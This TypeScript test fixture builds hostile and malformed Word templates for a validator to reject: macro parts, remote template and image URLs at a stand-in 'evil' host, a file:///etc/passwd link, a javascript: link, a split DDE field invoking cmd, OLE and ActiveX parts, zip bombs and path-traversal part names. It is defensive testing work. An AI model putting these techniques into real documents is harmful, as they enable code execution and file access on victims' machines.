import { strToU8, zipSync } from 'fflate';
import type { TemplateRefusal } from '#shared/model/template-report';
import { aTemplate, paragraph, relationship } from './word-templates';

const MEGABYTE = 2 ** 20;
const EXTERNAL = 'TargetMode="External"';
const macroType =
  '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>';

const field = (words: string): string =>
  paragraph('{{content}}') + `<w:p><w:r><w:instrText>${words}</w:instrText></w:r></w:p>`;

/** Files that are made to do harm, or that cannot be used, and why each is refused. */
export const hostileTemplates: [string, () => Uint8Array, TemplateRefusal][] = [
  [
    'a macro',
    () => aTemplate({ parts: { 'word/vbaProject.bin': 'x' }, types: macroType }),
    'macros',
  ],
  ['a macro nobody declares', () => aTemplate({ parts: { 'word/vbaProject.bin': 'x' } }), 'macros'],
  ['a type with macros', () => aTemplate({ mainType: 'macroEnabledTemplate' }), 'macros'],
  [
    'a template fetched from elsewhere',
    () =>
      aTemplate({
        relationships: relationship('attachedTemplate', 'http://evil/t.dotm', EXTERNAL),
      }),
    'attached-template',
  ],
  [
    'a picture fetched from elsewhere',
    () => aTemplate({ relationships: relationship('image', 'http://evil/p.png', EXTERNAL) }),
    'remote',
  ],
  [
    'a link to a file on this computer',
    () => aTemplate({ relationships: relationship('hyperlink', 'file:///etc/passwd', EXTERNAL) }),
    'remote',
  ],
  [
    'a link that is a script',
    () => aTemplate({ relationships: relationship('hyperlink', 'javascript:alert(1)', EXTERNAL) }),
    'remote',
  ],
  [
    'a field that fetches',
    () => aTemplate({ text: field('INCLUDEPICTURE "http://evil/p.png"') }),
    'remote',
  ],
  [
    'a field that runs, cut in two',
    () => aTemplate({ text: field('DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd') }),
    'remote',
  ],
  [
    'an object of another program',
    () => aTemplate({ parts: { 'word/embeddings/oleObject1.bin': 'x' } }),
    'embedded',
  ],
  ['a control', () => aTemplate({ parts: { 'word/activeX/activeX1.xml': '<x/>' } }), 'embedded'],
  [
    'another document within',
    () => aTemplate({ relationships: relationship('aFChunk', 'chunk.html') }),
    'embedded',
  ],
  [
    'a zip bomb',
    () => aTemplate({ parts: { 'word/media/a.bmp': new Uint8Array(20 * MEGABYTE) } }),
    'unpacks-too-large',
  ],
  [
    '200 MB of nothing',
    () => aTemplate({ parts: { 'word/media/a.bmp': new Uint8Array(200 * MEGABYTE) } }),
    'unpacks-too-large',
  ],
  ['more than 10 MB', () => new Uint8Array(10 * MEGABYTE + 1), 'too-large'],
  ['2,000 more parts', () => aTemplate({ parts: manyParts(2000) }), 'too-many-parts'],
  [
    'a name that leads out',
    () => aTemplate({ parts: { '../../evil.xml': '<x/>' } }),
    'unsafe-name',
  ],
  ['a name from the root', () => aTemplate({ parts: { '/etc/evil': 'x' } }), 'unsafe-name'],
  ['a name of Windows', () => aTemplate({ parts: { '..\\evil.xml': '<x/>' } }), 'unsafe-name'],
  ['a name with a drive', () => aTemplate({ parts: { 'C:evil.xml': '<x/>' } }), 'unsafe-name'],
  ['half of a file', () => aTemplate().subarray(0, 900), 'not-word'],
  ['no zip', () => strToU8('{{content}}'), 'not-word'],
  ['nothing', () => new Uint8Array(), 'not-word'],
  ['a zip of something else', () => zipSync({ 'readme.txt': strToU8('{{content}}') }), 'not-word'],
  [
    'a document that is none',
    () => aTemplate({ parts: { 'word/document.xml': '<html/>' } }),
    'not-word',
  ],
  ['broken XML', () => aTemplate({ text: '<w:p>' }), 'not-word'],
  [
    'entities',
    () => aTemplate({ parts: { 'word/document.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' } }),
    'not-word',
  ],
  ['no place for the paper', () => aTemplate({ text: paragraph('{{title}}') }), 'no-content'],
  [
    'two places for the paper',
    () => aTemplate({ text: paragraph('{{content}}').repeat(2) }),
    'content-not-alone',
  ],
  [
    'words beside the place',
    () => aTemplate({ text: paragraph('Paper: {{content}}') }),
    'content-not-alone',
  ],
  [
    'the place in a table',
    () =>
      aTemplate({ text: `<w:tbl><w:tr><w:tc>${paragraph('{{content}}')}</w:tc></w:tr></w:tbl>` }),
    'content-not-alone',
  ],
];

function manyParts(count: number): Record<string, string> {
  return Object.fromEntries(
    Array.from({ length: count }, (_, at) => [`word/media/${at}.txt`, 'x']),
  );
}
